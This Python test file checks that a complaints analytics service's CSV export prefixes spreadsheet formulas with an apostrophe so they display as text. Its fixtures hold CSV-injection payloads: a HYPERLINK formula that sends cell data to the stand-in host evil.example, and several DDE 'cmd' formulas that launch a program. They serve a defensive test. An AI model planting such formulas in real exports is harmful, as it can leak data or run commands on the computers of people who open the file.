"""Issue #21, point 3: a report's CSV never hands a spreadsheet a formula that a filer wrote.

Filers choose the product, company, region, sub-product, issue and channel detail of their
complaint; every text cell starting with = + - @, a tab or a carriage return gets a leading
apostrophe (runtime.csv_export), so the spreadsheet shows it as text instead of running it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient

from services.analytics.application import AnalyticsApplication
from tests.auth_tokens import Tokens
from tests.unit.analytics.conftest import STORE_KINDS, analyst_client, make_store
from tests.unit.analytics.stories import Story

# What an attacker files, by leading character; each a product of one complaint.
PRODUCTS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Card")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
    "＝": "＝1+1",
}
FILER_DIMENSIONS = ["product", "company", "region", "sub_product", "issue", "channel_detail"]


def stories() -> list[Story]:
    hostile = [Story(f"P{n}").received("2024-03-04 09:00", customer=f"c{n}", region="CA",
                                       product=product)
               for n, product in enumerate([*PRODUCTS.values(), "Card\r=1+1"])]
    every_field = Story("F").received(
        "2024-03-05 09:00", customer="cf", region="=region()", product="=product()",
        company="=company()", sub_product="=sub_product()", issue="=issue()",
        channel_detail="=channel_detail()")
    return [*hostile, every_field]


@pytest.fixture(scope="module", params=STORE_KINDS)
def http(request: pytest.FixtureRequest,
         tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    store = make_store(request.param, tmp_path_factory.mktemp("csv"), request)
    store.open()
    app = AnalyticsApplication(store)
    app.project([event for story in stories() for event in story.events])
    app.snapshot.refresh()
    yield analyst_client(app, Tokens(tmp_path_factory.mktemp("auth")))
    store.close()


def csv_rows(http: TestClient, by: str) -> dict[str, str]:
    """The CSV volume report by one dimension: its raw first cell -> complaints."""
    answer = http.get("/v1/analytics/volume", params={"by": by, "format": "csv"})
    assert answer.status_code == 200, answer.text
    header, *rows = csv.reader(io.StringIO(answer.text, newline=""))
    assert header == [by, "complaints"]
    return {value: complaints for value, complaints in rows}


@pytest.mark.parametrize("leading", list(PRODUCTS))
def test_a_product_starting_a_formula_is_text_in_the_csv(http: TestClient, leading: str):
    rows = csv_rows(http, "product")

    assert rows["'" + PRODUCTS[leading]] == "1"
    assert PRODUCTS[leading] not in rows


def test_a_carriage_return_inside_a_cell_cannot_start_a_row(http: TestClient):
    answer = http.get("/v1/analytics/volume", params={"by": "product", "format": "csv",
                                                       "product": "Card\r=1+1"})

    assert answer.text == 'product,complaints\r\n"Card\r=1+1",1\r\n'


def test_the_csv_carries_the_neutralised_cells_byte_for_byte(http: TestClient):
    answer = http.get("/v1/analytics/volume", params={"by": "product", "format": "csv",
                                                       "product": PRODUCTS["\r"]})

    assert answer.text == 'product,complaints\r\n"\'\r=1+1",1\r\n'


@pytest.mark.parametrize("dimension", FILER_DIMENSIONS)
def test_every_field_a_filer_chooses_is_neutralised(http: TestClient, dimension: str):
    rows = csv_rows(http, dimension)

    assert rows[f"'={dimension}()"] == "1"


def test_the_same_report_as_json_is_left_as_filed(http: TestClient):
    answer = http.get("/v1/analytics/volume", params={"by": "product"})

    assert {row["product"] for row in answer.json()["rows"]} == {
        *PRODUCTS.values(), "Card\r=1+1", "=product()"}
